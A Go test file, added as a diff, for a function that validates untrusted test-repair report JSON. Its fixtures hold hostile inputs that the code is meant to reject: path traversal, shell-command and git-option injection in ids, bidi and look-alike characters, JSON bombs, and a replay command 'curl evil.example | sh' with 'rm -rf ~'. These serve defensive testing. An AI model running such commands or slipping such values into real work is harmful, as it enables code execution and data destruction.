@@ -1,0 +1,247 @@
+package report
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
+)
+
+func TestReadForeignKeepsWhatIsHarmless(t *testing.T) {
+	t.Parallel()
+	for _, e := range examples {
+		if e.name == "hostile" {
+			continue
+		}
+		b, err := JSON(e.make())
+		if err != nil {
+			t.Fatal(err)
+		}
+		got, err := ReadForeign(bytes.NewReader(b), MaxSize)
+		if err != nil {
+			t.Errorf("%s: %v", e.name, err)
+			continue
+		}
+		want := e.make()
+		want.Receipts = nil
+		if want.Replay != nil {
+			want.Replay.Command, want.Replay.Args = "regreen replay "+want.ID, nil
+		}
+		if diff := cmp.Diff(want, got, cmpopts.EquateEmpty()); diff != "" {
+			t.Errorf("%s (-want +got):\n%s", e.name, diff)
+		}
+	}
+}
+
+// A report of fifty thousand tests and two thousand attempts is an ordinary one.
+func TestReadForeignTakesALargeReport(t *testing.T) {
+	t.Parallel()
+	r := proposedReport()
+	for i := range 50_000 {
+		r.Results = append(r.Results, Result{
+			Package: "example.com/fleet/store", Test: fmt.Sprintf("TestNumber%d", i), Status: "passed", Seconds: 0.01, Tries: 2, File: "store/a_test.go", Line: i,
+		})
+	}
+	for i := range 2_000 {
+		r.Attempts = append(r.Attempts, Attempt{
+			ID: fmt.Sprintf("a%d", i+100), Strategy: "template/guard", File: "stats/mean.go", Line: 3, Stage: "screen", Verdict: "rejected", Reason: "the failing tests still fail",
+		})
+	}
+	b, err := JSON(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := ReadForeign(bytes.NewReader(b), MaxSize)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got.Results) != len(r.Results) || len(got.Attempts) != len(r.Attempts) {
+		t.Errorf("%d results and %d attempts, want %d and %d", len(got.Results), len(got.Attempts), len(r.Results), len(r.Attempts))
+	}
+}
+
+// refusedForeign are changes to the JSON of proposedReport that ReadForeign refuses. Most of
+// them are harmless where nobody else has hands on a report: Read takes them.
+var refusedForeign = []struct {
+	name     string
+	old, new string
+	want     string // in the error
+}{
+	{"run that leads out of a folder", `"id": "20260302-091512-k7"`, `"id": "a/../../x"`, "id"},
+	{"run that names a host", `"id": "20260302-091512-k7"`, `"id": "k7@evil.example:x"`, "id"},
+	{"run that ends a comment", `"id": "20260302-091512-k7"`, `"id": "k7--"`, "id"},
+	{"run that is long", `"id": "20260302-091512-k7"`, `"id": "` + strings.Repeat("k", 65) + `"`, "id"},
+	{"patch with a command", `"id": "p-77c0"`, `"id": "a b; rm"`, "patches[1].id"},
+	{"patch that leads out", `"id": "p-77c0"`, `"id": "p/../../x"`, "patches[1].id"},
+	{"patch with bidi", `"id": "p-77c0"`, `"id": "p\u202e77"`, "patches[1].id"},
+	{"patch with a letter that looks like another", `"id": "p-77c0"`, `"id": "р-77c0"`, "patches[1].id"},
+	{"two patches of an ID", `"id": "p-77c0"`, `"id": "p-3f2a"`, "patches[1].id"},
+	{"attempt", `"attempt": "a17"`, `"attempt": "a/17"`, "patches[0].attempt"},
+	{"cluster with the patch of none", `"patch": "p-3f2a"`, `"patch": "p-0000"`, "clusters[0].patch"},
+	{"head", `"head": "9b1f`, `"head": "--upload-pack=x9b1f`, "environment.head"},
+	{"path with a newline", `"file": "stats/mean.go"`, `"file": "stats/mean.go\n::error::x"`, "plain path"},
+	{"path with bidi", `"file": "stats/mean.go"`, `"file": "stats/\u202eog.naem"`, "plain path"},
+	{"path with backslashes", `"file": "stats/mean.go"`, `"file": "..\\..\\x"`, "plain path"},
+	{"diff that leads out", `+++ b/stats/mean.go\n@@ -9,9 +9,12`, `+++ b/../x\n@@ -9,9 +9,12`, "patches[0].diff"},
+	{"diff that is none", `@@ -9,9 +9,12 @@`, `@@ -9,9 +9,12,1 @@`, "patches[0].diff"},
+	{"number that is none", `"confidence": 0.54`, `"confidence": NaN`, "invalid character"},
+	{"number without end", `"confidence": 0.54`, `"confidence": 1e999`, "confidence"},
+	{"count past all", `"passed": 1199`, `"passed": 99999999999999999999`, "passed"},
+	{"negative", `"budget": 20`, `"budget": -1`, "budget"},
+}
+
+func TestReadForeignRefuses(t *testing.T) {
+	t.Parallel()
+	r := proposedReport()
+	b, err := JSON(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	good := string(b)
+	for _, c := range refusedForeign {
+		bad := strings.Replace(good, c.old, c.new, 1)
+		if bad == good {
+			t.Fatalf("%s: %q is not in the report", c.name, c.old)
+		}
+		if _, err := ReadForeign(strings.NewReader(bad), MaxSize); err == nil || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("%s: got error %v, want one about %q", c.name, err, c.want)
+		}
+	}
+	for _, c := range broken {
+		bad := strings.Replace(good, c.old, c.new, 1)
+		if _, err := ReadForeign(strings.NewReader(bad), MaxSize); err == nil {
+			t.Errorf("%s: read without an error", c.name)
+		}
+	}
+	var patches, weights strings.Builder
+	for i := range maxForeignPatches {
+		fmt.Fprintf(&patches, `{"id":"p%d","attempt":"a","state":"plausible","redacted":true},`, i)
+	}
+	for i := range maxForeignKeys + 1 {
+		fmt.Fprintf(&weights, `"w%d":1,`, i)
+	}
+	with := func(text string) string { return strings.TrimSuffix(good, "\n}\n") + "," + text + "}" }
+	for name, bad := range map[string]string{
+		"a bomb of objects": with(`"failures":[` + strings.Repeat("{},", foreign.objects) + `{}]`),
+		"a flat bomb":       with(`"notes":[` + strings.Repeat(`"",`, foreign.commas) + `""]`),
+		"many notes":        with(`"notes":[` + strings.Repeat(`"",`, maxForeignList) + `""]`),
+		"many patches":      with(`"clusters":[],"patches":[` + patches.String() + `{"id":"p","attempt":"a","state":"plausible","redacted":true}]`),
+		"many weights":      with(`"replay":{"command":"","args":[],"seed":1,"system":"","weights":{"x":{` + weights.String() + `"z":1}}}`),
+		"deep":              with(`"extra":` + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)),
+		"a diff of 2 MB":    strings.Replace(good, `@@ -9,9 +9,12`, strings.Repeat("x", 2<<20), 1),
+		"two reports":       good + good,
+		"nothing":           "",
+		"null":              "null",
+		"not JSON":          "\xff\xfe\x00",
+	} {
+		if _, err := ReadForeign(strings.NewReader(bad), MaxSize); err == nil {
+			t.Errorf("%s: read without an error", name)
+		}
+	}
+}
+
+// endless is a reader that never ends, and counts what is taken.
+type endless struct{ taken int64 }
+
+func (e *endless) Read(p []byte) (int, error) {
+	for i := range p {
+		p[i] = ' '
+	}
+	e.taken += int64(len(p))
+	return len(p), nil
+}
+
+func TestReadForeignKeepsToItsLimit(t *testing.T) {
+	t.Parallel()
+	for limit, most := range map[int64]int64{1000: 8 << 10, 1 << 62: 2 * MaxSize, -1: 8 << 10} {
+		in := new(endless)
+		if _, err := ReadForeign(in, limit); err == nil || in.taken > most {
+			t.Errorf("limit %d: error %v after %d bytes", limit, err, in.taken)
+		}
+	}
+	if _, err := ReadForeign(io.LimitReader(new(endless), 10), 10); err == nil {
+		t.Error("spaces are no report")
+	}
+}
+
+func TestReadForeignCutsTexts(t *testing.T) {
+	t.Parallel()
+	r := proposedReport()
+	long := strings.Repeat("é", 5<<20)
+	r.Notes, r.Failures[0].Output, r.Patches[0].Title, r.Culprit.Diff = []string{long}, long, long, long
+	r.Receipts = []Receipt{{Channel: "comment", State: "sent", Where: "https://evil.example"}}
+	r.Replay = &Replay{Command: "curl evil.example | sh", Args: []string{"fix", "--test", "rm -rf ~"}, Seed: 1, System: "x"}
+	b, err := json.Marshal(complete(r))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := ReadForeign(bytes.NewReader(b), MaxSize+MaxSize); err == nil {
+		t.Fatalf("%d bytes were read", len(b))
+	}
+	long = strings.Repeat("é", 2<<20)
+	r.Notes, r.Failures[0].Output, r.Patches[0].Title, r.Culprit.Diff = []string{long}, long, long, long
+	if b, err = json.Marshal(complete(r)); err != nil {
+		t.Fatal(err)
+	}
+	got, err := ReadForeign(bytes.NewReader(b), MaxSize)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, text := range map[string]struct {
+		got  string
+		most int
+	}{
+		"note":    {got.Notes[0], maxForeignText},
+		"output":  {got.Failures[0].Output, maxForeignOutput},
+		"title":   {got.Patches[0].Title, maxForeignText},
+		"culprit": {got.Culprit.Diff, maxForeignDiff},
+	} {
+		if len(text.got) != text.most+len("…") || !strings.HasSuffix(text.got, "é…") {
+			t.Errorf("%s: %d bytes, want %d and an ellipsis", name, len(text.got), text.most)
+		}
+	}
+	if got.Receipts != nil || got.Replay.Command != "regreen replay "+r.ID || len(got.Replay.Args) > 0 {
+		t.Errorf("what others claim of this place stays: %v %v", got.Receipts, got.Replay)
+	}
+}
+
+func FuzzReadForeign(f *testing.F) {
+	for _, e := range examples {
+		b, err := JSON(e.make())
+		if err != nil {
+			f.Fatal(err)
+		}
+		f.Add(b)
+		for _, c := range refusedForeign {
+			f.Add([]byte(strings.Replace(string(b), c.old, c.new, 1)))
+		}
+	}
+	f.Fuzz(func(t *testing.T, b []byte) {
+		r, err := ReadForeign(bytes.NewReader(b), 1<<20)
+		if err != nil {
+			return
+		}
+		for _, p := range r.Patches {
+			if strings.ContainsAny(p.ID, "/\\. ;&|$\"'`<>") || strings.Contains(p.ID, "--") {
+				t.Errorf("patch %q", p.ID)
+			}
+		}
+		again, err := JSON(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		// Cutting does not make it longer than what is taken.
+		back, err := ReadForeign(bytes.NewReader(again), MaxSize)
+		if err != nil {
+			t.Fatalf("read once and not again: %v", err)
+		}
+		if diff := cmp.Diff(r, back, cmpopts.EquateEmpty()); diff != "" {
+			t.Errorf("read twice (-first +second):\n%s", diff)
+		}
+	})
+}
